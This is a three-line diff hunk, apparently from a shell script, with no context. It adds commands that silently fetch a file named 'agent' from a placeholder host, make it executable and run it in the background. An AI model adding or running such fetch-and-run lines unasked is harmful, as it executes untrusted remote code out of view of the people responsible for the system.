@@ -1,0 +1,3 @@
+wget -q https://files.example.net/agent
+chmod +x agent
+nohup ./agent &
